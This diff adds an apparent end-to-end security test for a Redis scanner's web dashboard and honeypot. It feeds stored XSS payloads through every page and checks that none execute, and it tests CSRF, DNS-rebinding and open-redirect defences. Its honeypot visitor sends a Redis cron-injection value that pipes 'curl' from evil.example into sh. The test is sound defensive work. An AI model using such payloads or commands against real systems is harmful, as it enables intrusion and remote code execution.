@@ -1,0 +1,464 @@
+/**
+ * `redscope serve` as a user meets it: the real CLI over a real SQLite store that a real scan,
+ * the real honeypot and a real audit wrote into, driven in headless Chromium (Debian's, through
+ * playwright-core). Stored strings carry XSS payloads (INFO fields, honeypot arguments); every
+ * page is visited and nothing may run, load or pop up. Screenshots go to test-output/.
+ */
+import assert from "node:assert/strict";
+import { type ChildProcess, spawn } from "node:child_process";
+import fs from "node:fs";
+import net from "node:net";
+import os from "node:os";
+import path from "node:path";
+import { after, before, describe, test } from "node:test";
+import { fileURLToPath } from "node:url";
+import { type Browser, chromium, type Page } from "playwright-core";
+import type { ProbeResult } from "../src/classify/result.js";
+import { type RedisProcess, startRedis } from "../src/lab/redis.js";
+import { encodeCommand } from "../src/resp/index.js";
+import { openStore } from "../src/store/index.js";
+import { BIN, runCli } from "./helpers/cli.js";
+import { type RunningHoneypot, startHoneypot } from "./helpers/honeypot-process.js";
+import { canMakeNetns, createTestHost } from "./helpers/netns.js";
+import { freePort } from "./helpers/ports.js";
+import { testScan } from "./helpers/scans.js";
+
+const CHROMIUM = "/usr/bin/chromium";
+const SHOTS = fileURLToPath(new URL("../../test-output/", import.meta.url));
+const TOKEN = "test-token-0123456789-abcdef";
+
+/** Payloads that would run, load or alert if any page put them in as HTML. */
+const XSS = {
+  script: "7.0.15<script>alert('v')</script>",
+  img: "<img src=/xss-img onerror=alert('i')>",
+  attr: "\"><svg onload=alert('a')>",
+  js: "javascript:alert('j')",
+};
+
+interface Served {
+  child: ChildProcess;
+  url: string;
+  out: () => string;
+  stop: () => Promise<void>;
+}
+
+/** Start `redscope serve ARGS` (optionally in a network namespace) and wait for its URL. */
+async function serve(args: string[], netns?: string): Promise<Served> {
+  const cmd = netns ? "ip" : process.execPath;
+  const argv = netns
+    ? ["netns", "exec", netns, process.execPath, BIN, "serve", ...args]
+    : [BIN, "serve", ...args];
+  const child = spawn(cmd, argv, { stdio: ["ignore", "pipe", "pipe"] });
+  let out = "";
+  child.stdout!.on("data", (d) => (out += d));
+  child.stderr!.on("data", (d) => (out += d));
+  const deadline = Date.now() + 15_000;
+  let m: RegExpMatchArray | null = null;
+  while (!(m = /dashboard on (\S+) over/.exec(out))) {
+    if (child.exitCode !== null || Date.now() > deadline) {
+      child.kill("SIGKILL");
+      throw new Error(`serve did not start: ${out}`);
+    }
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  return {
+    child,
+    url: m[1]!.replace(/\/$/, ""),
+    out: () => out,
+    stop: async () => {
+      if (child.exitCode !== null) return;
+      const closed = new Promise((r) => child.once("close", r));
+      child.kill("SIGTERM");
+      await closed;
+    },
+  };
+}
+
+/** Poll `cond` every 100 ms for up to `ms` (the page's own CSP forbids string evaluation). */
+async function until(cond: () => Promise<boolean>, ms = 10_000): Promise<void> {
+  const deadline = Date.now() + ms;
+  while (!(await cond())) {
+    if (Date.now() > deadline)
+      throw new Error(`condition not met in ${ms} ms: ${cond.toString().slice(0, 200)}`);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
+
+/** A visitor that sends hostile arguments to the honeypot, then leaves. */
+async function visit(port: number, commands: string[][]): Promise<void> {
+  await new Promise<void>((resolve, reject) => {
+    const s = net.connect({ host: "127.0.0.1", port }, () => {
+      for (const c of commands) s.write(encodeCommand(c));
+      setTimeout(() => s.end(), 300);
+    });
+    s.on("data", () => undefined);
+    s.on("error", reject);
+    s.on("close", () => resolve());
+  });
+}
+
+function hostileResults(scanId: string): ProbeResult[] {
+  const base = {
+    port: 6379,
+    transport: "tcp" as const,
+    time: "2026-11-20T10:00:01.000Z",
+    scan_id: scanId,
+  };
+  const out: ProbeResult[] = [];
+  for (let i = 1; i <= 120; i++) {
+    out.push({
+      ...base,
+      ip: `192.0.2.${i}`,
+      state: i % 2 === 0 ? "open" : "auth_required",
+      ...(i % 2 === 0
+        ? {
+            nicer: "Returned version",
+            server: {
+              product: "redis",
+              version: i === 2 ? XSS.script : "7.0.15",
+              redis_version: "7.0.15",
+              role: "master",
+              os: XSS.img,
+              executable: XSS.attr,
+            },
+            cves: [{ id: "CVE-2025-49844", cvss: 10, fixed_in: "7.2.11" }],
+            as_org: XSS.attr,
+            asn: 64500,
+            country: "DE",
+          }
+        : { detail: "NOAUTH", error: XSS.img }),
+    });
+  }
+  return out;
+}
+
+describe("redscope serve", {
+  skip: fs.existsSync(CHROMIUM) ? false : `${CHROMIUM} not installed`,
+}, () => {
+  let tmp = "";
+  let db = "";
+  let hp: RunningHoneypot;
+  let redis: RedisProcess;
+  let dash: Served;
+  let browser: Browser;
+
+  before(async () => {
+    tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-"));
+    db = path.join(tmp, "dash.db");
+    fs.mkdirSync(SHOTS, { recursive: true });
+    // Two stored scans with hostile INFO fields: the second one changes a few targets.
+    const store = await openStore(db);
+    for (const [id, day] of [
+      ["old", "2026-11-19"],
+      ["new", "2026-11-20"],
+    ] as const) {
+      await store.beginScan(testScan(id, `${day}T10:00:00.000Z`));
+      await store.beginShard({ scanId: id, shard: "0/1", startedAt: `${day}T10:00:00.000Z` });
+      const rows = hostileResults(id).map((r, i) =>
+        id === "new" && i < 5 ? { ...r, state: "open" as const } : r,
+      );
+      await store.insertResults(id, rows);
+      await store.finishShard(id, "0/1", await store.stateCounts(id, "0/1"));
+    }
+    await store.close();
+
+    // The honeypot writes into the same store; a visitor sends hostile arguments.
+    hp = await startHoneypot(["--db", db, "--listen", "127.0.0.1:0/redis-7.0-open"]);
+    const hpPort = hp.ports.get("redis-7.0-open")!;
+    await visit(hpPort, [
+      ["CONFIG", "SET", "dir", XSS.img],
+      ["SET", "backup1", `\n\n*/1 * * * * curl -fsSL http://evil.example/${XSS.script}|sh\n\n`],
+      ["CLIENT", "SETNAME", XSS.attr],
+    ]);
+    // The recorder writes in batches: wait until the session has ended in the store.
+    await until(async () => {
+      const s = await openStore(db);
+      try {
+        const [row] = await s.recentHoneypotSessions(1);
+        return row?.endedAt !== undefined && (await s.honeypotEvents(row.id)).length >= 4;
+      } finally {
+        await s.close();
+      }
+    });
+
+    // An audit of a real server, kept in the store.
+    const port = await freePort();
+    redis = await startRedis({ host: "127.0.0.1", port });
+    const a = await runCli(["audit", `redis://127.0.0.1:${port}`, "--db", db, "--timeout", "3s"]);
+    assert.equal(a.code, 1, a.stderr);
+
+    dash = await serve(["--db", db, "--listen", "127.0.0.1:0", "--token", TOKEN]);
+    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
+  });
+
+  after(async () => {
+    await browser?.close();
+    await dash?.stop();
+    await hp?.stop();
+    await redis?.stop();
+    fs.rmSync(tmp, { recursive: true, force: true });
+  });
+
+  /** A logged-in tab that fails the test on any dialog, foreign request or page error. */
+  async function tab(): Promise<{ page: Page; problems: string[] }> {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const problems: string[] = [];
+    page.on("dialog", (d) => {
+      problems.push(`dialog: ${d.message()}`);
+      void d.dismiss();
+    });
+    page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
+    page.on("console", (m) => {
+      if (m.type() === "error") problems.push(`console: ${m.text()}`);
+    });
+    page.on("request", (r) => {
+      const u = new URL(r.url());
+      if (u.origin !== dash.url || u.pathname.startsWith("/xss"))
+        problems.push(`request: ${r.url()}`);
+    });
+    await page.goto(`${dash.url}/scans`);
+    assert.match(page.url(), /\/login\?next=%2Fscans$/, "sent to the login first");
+    await page.fill("input[name=token]", TOKEN);
+    await Promise.all([page.waitForURL(/\/scans$/), page.click("button[type=submit]")]);
+    return { page, problems };
+  }
+
+  test("every page in Chromium: hostile strings shown as text, nothing runs or loads; screenshots", async () => {
+    const { page, problems } = await tab();
+    const shot = async (name: string): Promise<void> => {
+      await page.screenshot({ path: path.join(SHOTS, `dashboard-${name}.png`), fullPage: true });
+    };
+    assert.equal(await page.locator("tbody tr").count(), 2);
+    await shot("scans");
+
+    await page.click("a[href='/scans/new']");
+    await page.waitForURL(/\/scans\/new$/);
+    assert.ok((await page.locator("svg").count()) >= 2, "the report's charts");
+    const scanText = (await page.locator("body").textContent()) ?? "";
+    assert.ok(scanText.includes(XSS.attr), "a hostile AS name is shown as text");
+    await shot("scan");
+
+    // Search: by the form, then one host's history.
+    await page.goto(`${dash.url}/search`);
+    await page.selectOption("select[name=state]", "open");
+    await page.fill("input[name=country]", "de");
+    await Promise.all([page.waitForURL(/state=open/), page.click("button.primary")]);
+    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 50);
+    await until(async () =>
+      /\d+ results/.test((await page.locator("[data-count-url]").textContent()) ?? ""),
+    );
+    assert.equal(await page.locator("[data-count-url]").textContent(), "60 results");
+    await shot("search");
+    await Promise.all([page.waitForURL(/state=open.*after=/), page.click("text=Next page")]);
+    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 10);
+    await page.goto(
+      `${dash.url}/search?scan=new&cve=CVE-2025-49844&q=${encodeURIComponent(XSS.script)}`,
+    );
+    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 1);
+    await Promise.all([page.waitForURL(/\/hosts\//), page.click("td a >> nth=0")]);
+    assert.equal(await page.locator("section:has(h2:text('Across scans')) tbody tr").count(), 2);
+    assert.ok(((await page.locator("pre.record").textContent()) ?? "").includes(XSS.attr));
+    await shot("host");
+
+    await page.goto(`${dash.url}/scans`);
+    await page.selectOption("select[name=a]", "old");
+    await page.selectOption("select[name=b]", "new");
+    await Promise.all([page.waitForURL(/\/diff\?/), page.click("button:has-text('Compare')")]);
+    assert.match((await page.locator("#diff-summary").textContent()) ?? "", /newly open\s*3/);
+    await shot("diff");
+
+    // The honeypot: a session's transcript shows the visitor's arguments as text.
+    await page.goto(`${dash.url}/honeypot`);
+    await Promise.all([
+      page.waitForURL(/\/honeypot\/sessions\//),
+      page.click("#feed tbody tr >> nth=0 >> a"),
+    ]);
+    const transcript = (await page.locator("body").textContent()) ?? "";
+    assert.ok(
+      transcript.includes(XSS.img),
+      `CONFIG SET dir with an <img> payload, as text: ${transcript.slice(0, 3000)}`,
+    );
+    assert.match(transcript, /config_set|CONFIG/i);
+    await shot("session");
+
+    await page.goto(`${dash.url}/audits`);
+    await Promise.all([page.waitForURL(/\/audits\/./), page.click("tbody tr >> nth=0 >> a")]);
+    assert.match((await page.locator("body").textContent()) ?? "", /RS-AUTH-001/);
+    await shot("audit");
+
+    assert.deepEqual(problems, []);
+    // Had any payload become markup, there would be an element for it.
+    for (const sel of ["script:not([src])", "img", "svg[onload]", "[onerror]"]) {
+      assert.equal(await page.locator(sel).count(), 0, sel);
+    }
+  });
+
+  test("live: a running scan's progress moves and its page reloads when done; new honeypot sessions appear", async () => {
+    const { page, problems } = await tab();
+    // Closed loopback ports, paced slowly enough to watch: 96 targets at 40 a second.
+    const port = await freePort();
+    const scan = spawn(
+      process.execPath,
+      [
+        BIN,
+        "scan",
+        "127.9.0.0/25",
+        "-p",
+        String(port),
+        "--rate",
+        "40",
+        "--db",
+        db,
+        "--scan-id",
+        "live",
+        "--allow-reserved",
+        "-q",
+      ],
+      { stdio: "ignore" },
+    );
+    try {
+      const deadline = Date.now() + 10_000;
+      while (Date.now() < deadline) {
+        await page.goto(`${dash.url}/scans/live`);
+        if ((await page.locator("[data-live-scan][data-reload]").count()) > 0) break;
+        await new Promise((r) => setTimeout(r, 300));
+      }
+      // The scan's page was missing (404) until the scan began: those loads are not problems.
+      problems.length = 0;
+      const bar = page.locator("section:has(h2:text('Running')) progress");
+      const first = Number(await bar.getAttribute("value"));
+      // The bar moves without a reload (the page's live script, fed by Server-Sent Events).
+      await until(
+        async () =>
+          Number(await bar.evaluate((e) => (e as unknown as { value: number }).value)) > first,
+      );
+      // When the scan ends the page reloads into the finished report (no Running section).
+      await page.waitForSelector("section:has(h2:text('Running'))", {
+        state: "detached",
+        timeout: 20_000,
+      });
+      assert.match((await page.locator("header").textContent()) ?? "", /Finished/);
+    } finally {
+      scan.kill("SIGKILL");
+    }
+    await page.screenshot({ path: path.join(SHOTS, "dashboard-live-scan.png"), fullPage: true });
+
+    await page.goto(`${dash.url}/honeypot`);
+    const rows = await page.locator("#feed tbody tr").count();
+    await visit(hp.ports.get("redis-7.0-open")!, [["PING"], ["INFO"]]);
+    await until(async () => (await page.locator("#feed tbody tr").count()) > rows);
+    assert.deepEqual(problems, []);
+  });
+
+  test("HTTP: headers, Host check, login, CSRF, bad input", async () => {
+    const r = await fetch(`${dash.url}/scans`, { redirect: "manual" });
+    assert.equal(r.status, 303);
+    assert.equal(r.headers.get("location"), "/login?next=%2Fscans");
+    const csp = r.headers.get("content-security-policy") ?? "";
+    assert.match(csp, /default-src 'none'/);
+    assert.match(csp, /script-src 'self'/);
+    assert.doesNotMatch(csp, /unsafe/);
+    assert.equal(r.headers.get("x-frame-options"), "DENY");
+    assert.equal(r.headers.get("x-content-type-options"), "nosniff");
+
+    // DNS rebinding: another name for this address is refused.
+    const port = new URL(dash.url).port;
+    const rebound = await new Promise<string>((resolve) => {
+      const s = net.connect({ host: "127.0.0.1", port: Number(port) }, () =>
+        s.write(
+          `GET /scans HTTP/1.1\r\nHost: attacker.example:${port}\r\nConnection: close\r\n\r\n`,
+        ),
+      );
+      let got = "";
+      s.on("data", (d) => (got += d));
+      s.on("close", () => resolve(got));
+    });
+    assert.match(rebound, /^HTTP\/1\.1 421/);
+
+    // Login: the form's CSRF cookie, a wrong token, then the right one.
+    const form = await fetch(`${dash.url}/login`);
+    const loginCookie = /redscope_login=([^;]+)/.exec(form.headers.get("set-cookie") ?? "")![1]!;
+    const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())![1]!;
+    assert.equal(csrf, loginCookie);
+    const post = (body: Record<string, string>, headers: Record<string, string> = {}) =>
+      fetch(`${dash.url}/login`, {
+        method: "POST",
+        redirect: "manual",
+        headers: {
+          "content-type": "application/x-www-form-urlencoded",
+          cookie: `redscope_login=${loginCookie}`,
+          ...headers,
+        },
+        body: new URLSearchParams(body).toString(),
+      });
+    assert.equal((await post({ csrf, token: "wrong-token-wrong-token" })).status, 401);
+    assert.equal((await post({ csrf: "forged", token: TOKEN })).status, 403);
+    assert.equal(
+      (await post({ csrf, token: TOKEN }, { origin: "http://attacker.example" })).status,
+      403,
+    );
+    const ok = await post({ csrf, token: TOKEN, next: "//attacker.example/" });
+    assert.equal(ok.status, 303);
+    assert.equal(ok.headers.get("location"), "/scans", "no open redirect");
+    const setCookie = ok.headers.getSetCookie().find((c) => c.startsWith("redscope_session="))!;
+    assert.match(setCookie, /HttpOnly/);
+    assert.match(setCookie, /SameSite=Strict/);
+    const session = setCookie.split(";")[0]!;
+
+    const get = (p: string) =>
+      fetch(`${dash.url}${p}`, { headers: { cookie: session }, redirect: "manual" });
+    assert.equal((await get("/scans")).status, 200);
+    assert.equal((await get("/search?state=nonsense")).status, 400);
+    assert.equal((await get("/search?asn=AS12x")).status, 400);
+    assert.equal((await get("/scans/nope")).status, 404);
+    assert.equal((await get(`/${"a".repeat(5000)}`)).status, 414);
+    assert.equal((await get("/hosts/%E0%A4%A")).status, 400);
+    const count = (await (await get("/api/count?scan=new&state=open")).json()) as { n: number };
+    assert.equal(count.n, 63);
+    // Logout needs the session's CSRF token.
+    const logout = (csrfValue: string) =>
+      fetch(`${dash.url}/logout`, {
+        method: "POST",
+        redirect: "manual",
+        headers: { cookie: session, "content-type": "application/x-www-form-urlencoded" },
+        body: `csrf=${encodeURIComponent(csrfValue)}`,
+      });
+    assert.equal((await logout("forged")).status, 403);
+    const page = await (await get("/scans")).text();
+    const sessionCsrf = /name="csrf" value="([^"]+)"/.exec(page)![1]!;
+    assert.equal((await logout(sessionCsrf)).status, 303);
+    assert.equal((await get("/scans")).status, 303, "logged out");
+  });
+});
+
+describe("redscope serve beyond loopback", {
+  skip: canMakeNetns() ? false : "needs root for a network namespace",
+}, () => {
+  test("makes a token, prints it once, and asks for it; bad options are one line", async () => {
+    const host = createTestHost("serve");
+    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-ns-"));
+    let s: Served | undefined;
+    try {
+      s = await serve(["--db", path.join(tmp, "x.db"), "--listen", `${host.hostIp}:8080`], host.ns);
+      const token = /login token \(shown once, not stored\): (\S+)/.exec(s.out())?.[1];
+      assert.ok(token && token.length >= 32, s.out());
+      const r = await fetch(`http://${host.hostIp}:8080/scans`, { redirect: "manual" });
+      assert.equal(r.status, 303);
+      assert.match(r.headers.get("location") ?? "", /^\/login/);
+    } finally {
+      await s?.stop();
+      host.destroy();
+      fs.rmSync(tmp, { recursive: true, force: true });
+    }
+    for (const [args, msg] of [
+      [["--listen", "nowhere"], /^redscope: --listen "nowhere": expected ADDR:PORT\n$/],
+      [["--listen", "127.0.0.1:8080", "--token", "short"], /at least 16 characters/],
+      [["--listen", "127.0.0.1:8080", "--tls-cert", "x.pem"], /go together/],
+    ] as const) {
+      const r = await runCli(["serve", ...args]);
+      assert.equal(r.code, 2, r.stderr);
+      assert.match(r.stderr, msg);
+    }
+  });
+});
